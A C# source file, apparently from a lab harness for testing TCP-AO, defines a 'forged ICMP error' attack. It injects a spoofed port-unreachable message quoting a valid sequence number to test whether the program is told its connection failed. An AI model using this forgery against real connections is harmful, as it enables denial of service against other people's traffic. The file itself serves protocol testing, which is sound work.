using System.Net.Sockets;

namespace TcpAo.Cli.Lab.Attacks;

/// <summary>
/// "Port unreachable" for an established connection, which RFC 5925 section 7.8 wants ignored. Linux tells a program of it that asked for errors
/// (IP_RECVERR), and most such programs give the connection up.
/// </summary>
internal sealed class IcmpAttack : IAttack
{
    private const int IPPROTO_IP = 0;
    private const int IP_RECVERR = 11;

    public string Name => "forged ICMP error";

    public string Run(AttackStage stage)
    {
        using LabSession session = stage.Open();
        session.A.SetRawSocketOption(IPPROTO_IP, IP_RECVERR, BitConverter.GetBytes(1));
        LabSegment pattern = stage.Last(session, isFromA: false);

        // the quote must name a sequence number that A has in use
        LabSegment last = stage.Last(session, isFromA: true);
        uint next = stage.Next(session, isFromA: true);
        LabSegment quoted = last with { Frame = Forge.Segment(last, last.Flags, next, last.Acknowledgment) };
        stage.Inject(Forge.PortUnreachable(pattern, quoted), isToA: true);
        return stage.Await(
            session,
            isOfA: true,
            () => session.A.GetSocketOption(SocketOptionLevel.Socket, SocketOptionName.Error) is not 0,
            "the program was told that the connection failed",
            "ICMP error");
    }
}
